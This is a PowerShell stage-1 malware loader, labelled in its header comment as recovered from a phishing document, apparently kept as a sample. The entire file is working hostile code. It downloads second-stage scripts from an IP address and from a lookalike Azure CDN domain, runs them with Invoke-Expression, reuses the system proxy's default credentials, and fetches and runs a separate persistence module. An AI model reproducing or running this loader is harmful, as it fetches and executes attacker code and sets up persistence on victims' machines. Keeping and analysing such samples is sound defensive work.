<# stage-1 loader recovered from a phishing document (case 2024-0311) #>
$ProgressPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

$primary  = 'http://185.220.101.47/a/stage2.ps1'
$fallback = 'https://cdn-update.azureedge-cache.net/s2.txt'

try {
    $wc = New-Object System.Net.WebClient
    $wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
    $wc.Proxy = [Net.WebRequest]::GetSystemWebProxy()
    $wc.Proxy.Credentials = [Net.CredentialCache]::DefaultCredentials
    IEX ($wc.DownloadString($primary))
}
catch {
    IEX (iwr $fallback -UseBasicParsing).Content
}

# belt and braces: pull the persistence module straight from the server
(New-Object Net.WebClient).DownloadString('http://185.220.101.47/a/persist.ps1') | Invoke-Expression
& ([scriptblock]::Create((Invoke-RestMethod -Uri $fallback)))
